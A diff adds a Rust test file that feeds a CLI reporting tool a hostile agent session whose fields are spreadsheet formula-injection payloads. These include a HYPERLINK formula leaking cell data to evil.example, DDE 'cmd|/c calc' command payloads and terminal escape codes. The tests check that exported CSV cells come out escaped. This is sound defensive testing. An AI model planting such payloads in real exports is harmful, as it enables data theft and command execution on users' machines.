@@ -1,0 +1,87 @@
+//! The CSV files of a session from a stranger, whose ids and texts are formulas to a spreadsheet.
+
+use crate::common;
+
+use common::{Folder, jsonl};
+use serde_json::{Value, json};
+
+const SESSION: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")";
+const FACT: &str = "@SUM(1+1)*cmd|'/c calc'!A0";
+const AGENT: &str = "+agent\u{1b}[2J\u{7}";
+
+/// Two turns with a subagent, a fact and a compaction.
+fn hostile() -> String {
+    let call = |id: &str| json!([{"id": id, "name": "=read()", "arguments": "{}"}]);
+    let within = |mut line: Value| {
+        line["agent"] = json!(AGENT);
+        line
+    };
+    jsonl(&[
+        json!({"type": "session", "version": 1, "id": SESSION}),
+        json!({"type": "user", "id": "-u1", "text": "-1+1 is what?"}),
+        json!({"type": "assistant", "id": "-a1", "calls": call("=c1")}),
+        within(json!({"type": "user", "id": "=s1", "text": "=find it"})),
+        within(json!({"type": "assistant", "id": "=s2", "text": "-8443-it"})),
+        json!({"type": "tool", "call_id": "=c1", "output": "\t=2+5+cmd|' /C calc'!A0 \0 -8443-it"}),
+        json!({"type": "assistant", "id": "-a2", "text": "@done"}),
+        json!({"type": "compact"}),
+        json!({"type": "user", "id": "-u2", "text": "and again"}),
+        json!({"type": "assistant", "id": "-a3", "text": "-8443-it"}),
+        json!({"type": "fact", "id": FACT, "kind": "value", "tokens": ["-8443-it"],
+               "arises": "=c1", "needs": ["-u2"]}),
+    ])
+}
+
+/// What neither begins a formula nor steers a terminal; a number may have a sign.
+fn is_harmless(cell: &str) -> bool {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
+    let steers = |c: char| c.is_control() && c != '\n' && c != '\t';
+    (!formula || cell.parse::<f64>().is_ok()) && !cell.contains(steers)
+}
+
+#[test]
+fn no_cell_of_a_strangers_session_is_a_formula() {
+    let here = Folder::new();
+    here.write("hostile.jsonl", hostile());
+    let strategies = "--strategy reference --strategy codex --strategy keep-nothing";
+    here.run(&format!("run hostile.jsonl {strategies} --transport direct --out out")).ok();
+    here.run("report out --format csv -o csv --no-redact").ok();
+    let (mut files, mut escaped, mut below_zero) = (0, 0, 0);
+    for folder in ["out", "csv"] {
+        for name in here.files(folder).keys().filter(|n| n.ends_with(".csv")) {
+            files += 1;
+            for row in here.csv(&format!("{folder}/{name}")) {
+                for (column, cell) in row {
+                    assert!(is_harmless(&cell), "{folder}/{name}: {column} is {cell:?}");
+                    escaped += usize::from(cell.starts_with('\''));
+                    below_zero += usize::from(cell.starts_with('-'));
+                }
+            }
+        }
+    }
+    assert_eq!(files, 18);
+    // A compaction of so short a session is dearer than none: amounts below zero stay numbers.
+    assert!(escaped > 0 && below_zero > 0, "{escaped} escaped, {below_zero} below zero");
+    let row = &here.csv("out/facts.csv")[0];
+    assert_eq!((&*row["scenario"], &*row["fact"]), (&*format!("'{SESSION}"), &*format!("'{FACT}")));
+    let told = &here.csv("out/delegation.csv")[0]["agent"];
+    assert_eq!(*told, "'+agent\u{fffd}[2J\u{fffd}");
+}
+
+#[test]
+fn results_with_hostile_ids_are_read_by_every_command() {
+    let here = Folder::new();
+    here.write("hostile.jsonl", hostile());
+    let run = "run hostile.jsonl --strategy codex --strategy none --transport direct --out";
+    here.run(&format!("{run} out")).ok();
+    here.run(&format!("{run} again")).ok();
+    here.run("merge out again --out merged").ok();
+    assert_eq!(here.read("merged/summary.csv"), here.read("out/summary.csv"));
+    here.run("gate out --baseline base.json --store").ok();
+    here.run("gate merged --baseline base.json").ok();
+    here.run("compare out merged").ok();
+    here.run("best merged --by cost_usd").ok();
+    here.run("explain merged").arg(FACT).ok();
+    // Exact texts stand where programs read them.
+    assert_eq!(here.json("merged/results.json")["runs"][0]["scenario"]["id"], SESSION);
+}
